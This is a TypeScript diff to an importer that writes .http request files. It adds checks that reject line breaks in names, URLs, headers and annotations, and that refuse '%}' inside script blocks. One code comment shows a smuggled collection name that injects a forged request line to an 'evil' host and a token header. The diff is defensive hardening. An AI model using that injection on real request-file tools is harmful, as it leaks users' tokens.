@@ -7,6 +7,7 @@
  * import has more to say: comments, scripts, bodies in files.)
  */
 import { basename, dirname, join, posix, relative, sep } from 'node:path';
+import { UsageError } from '../core/errors/index.js';
 import { parseHttpText } from '../plugins/format-http/parse-http.js';
 import type { ImportedBody, ImportedFile, ImportedRequest, MultipartPart } from './model.js';
 
@@ -33,6 +34,26 @@ function inlineable(request: ImportedRequest, text: string, exact: boolean): boo
   }
 }
 
+/**
+ * Text from the imported document is written into lines of the `.http` file: a line break in a
+ * name, a URL or a header value would start a line the parser reads as something else — a
+ * request line or a header the document never had (a collection named `a\nPOST https://evil/
+ * \nX-Token: {{token}}`). Comments are split into comment lines; anything else refused.
+ */
+const LINE_BREAK = /\r\n|[\r\n\u2028\u2029\u0085]/;
+
+function commentLines(text: string): string[] {
+  return text.split(LINE_BREAK).map((line) => `# ${line}`.trimEnd());
+}
+
+/** `text` as it is, or exit 2 naming the file, the request and the field. */
+function oneLine(text: string, file: ImportedFile, request: ImportedRequest, what: string): string {
+  if (!LINE_BREAK.test(text)) return text;
+  throw new UsageError(`${file.path}: request ${JSON.stringify(request.title ?? request.name)}: ${what} holds a line break, which a request file line cannot hold: nothing was written`, {
+    hint: 'correct it in the document imported (a header value or URL with a line break could not be sent anyway)',
+  });
+}
+
 /** `./x` or `../x`, with `/`, from the request file's folder. */
 function includePath(httpFile: string, target: string): string {
   const path = relative(dirname(httpFile), target).split(sep).join(posix.sep);
@@ -47,11 +68,12 @@ function extensionOf(request: ImportedRequest): string {
   return 'txt';
 }
 
-function multipartLines(httpFile: string, boundary: string, parts: MultipartPart[]): string[] {
+function multipartLines(httpFile: string, boundary: string, parts: MultipartPart[], line: (text: string, what: string) => string): string[] {
   const lines: string[] = [];
   for (const part of parts) {
-    lines.push(`--${boundary}`, `Content-Disposition: form-data; name="${part.name}"${part.filename !== undefined ? `; filename="${part.filename}"` : ''}`);
-    if (part.contentType) lines.push(`Content-Type: ${part.contentType}`);
+    const what = `multipart part "${part.name}"`;
+    lines.push(`--${boundary}`, line(`Content-Disposition: form-data; name="${part.name}"${part.filename !== undefined ? `; filename="${part.filename}"` : ''}`, `the name or file name of ${what}`));
+    if (part.contentType) lines.push(line(`Content-Type: ${part.contentType}`, `the Content-Type of ${what}`));
     lines.push('', 'file' in part.value ? `< ${includePath(httpFile, part.value.file)}` : part.value.text);
   }
   lines.push(`--${boundary}--`);
@@ -72,7 +94,7 @@ class FileRenderer {
 
   private bodyLines(request: ImportedRequest, body: ImportedBody): string[] {
     if (body.kind === 'file') return [`< ${includePath(this.absolute, body.path)}`];
-    if (body.kind === 'multipart') return multipartLines(this.absolute, body.boundary, body.parts);
+    if (body.kind === 'multipart') return multipartLines(this.absolute, body.boundary, body.parts, (text, what) => oneLine(text, this.file, request, what));
     // A GraphQL query is the request's text, not bytes: it stays below the request line.
     if (request.method === 'GRAPHQL' || inlineable(request, body.text, body.exact)) return body.text.split('\n');
     const stem = basename(this.file.path, '.http');
@@ -82,20 +104,28 @@ class FileRenderer {
     return [`${body.exact ? '<' : '<@'} ${includePath(this.absolute, join(this.outDir, path))}`];
   }
 
+  /** A script block's code: `%}` anywhere in it would end the block there (script-block.ts). */
+  private script(request: ImportedRequest, code: string, what: string): string {
+    if (code.includes('%}')) throw new UsageError(`${this.file.path}: request ${JSON.stringify(request.title ?? request.name)}: its ${what} holds "%}", which would end the script block early: nothing was written`, { hint: 'write %} differently in the script (\'%\' + \'}\')' });
+    return code;
+  }
+
   request(request: ImportedRequest): string[] {
-    const lines = [`### ${request.title ?? request.name}`, `# @name ${request.name}`];
-    for (const comment of request.comments) lines.push(...comment.split('\n').map((line) => `# ${line}`.trimEnd()));
-    for (const [key, value] of request.annotations) lines.push(value === true ? `# @${key}` : `# @${key} ${typeof value === 'string' ? value : includePath(this.absolute, value.file)}`);
-    if (request.preScript !== undefined) lines.push('< {%', request.preScript, '%}');
-    lines.push(`${request.method} ${request.url}${request.http2 ? ' HTTP/2' : ''}`);
-    for (const [name, value] of request.headers) lines.push(`${name}: ${value}`);
+    const line = (text: string, what: string): string => oneLine(text, this.file, request, what);
+    // The title is a name only: its line breaks become spaces.
+    const lines = [`### ${(request.title ?? request.name).split(LINE_BREAK).join(' ')}`, `# @name ${line(request.name, 'its name')}`];
+    for (const comment of request.comments) lines.push(...commentLines(comment));
+    for (const [key, value] of request.annotations) lines.push(line(value === true ? `# @${key}` : `# @${key} ${typeof value === 'string' ? value : includePath(this.absolute, value.file)}`, `the annotation @${key}`));
+    if (request.preScript !== undefined) lines.push('< {%', this.script(request, request.preScript, 'pre-request script'), '%}');
+    lines.push(line(`${request.method} ${request.url}${request.http2 ? ' HTTP/2' : ''}`, 'its method or URL'));
+    for (const [name, value] of request.headers) lines.push(line(`${name}: ${value}`, `header "${name.split(LINE_BREAK).join(' ')}"`));
     if (request.body && !(request.body.kind === 'text' && request.body.text === '')) lines.push('', ...this.bodyLines(request, request.body));
-    if (request.postScript !== undefined) lines.push('', '> {%', request.postScript, '%}');
+    if (request.postScript !== undefined) lines.push('', '> {%', this.script(request, request.postScript, 'response script'), '%}');
     return lines;
   }
 
   render(): RenderedFile[] {
-    const lines = this.file.header.map((line) => `# ${line}`.trimEnd());
+    const lines = this.file.header.flatMap(commentLines);
     if (lines.length > 0) lines.push('');
     for (const request of this.file.requests) lines.push(...this.request(request), '');
     return [{ path: this.file.path, content: lines.join('\n') }, ...this.extra];
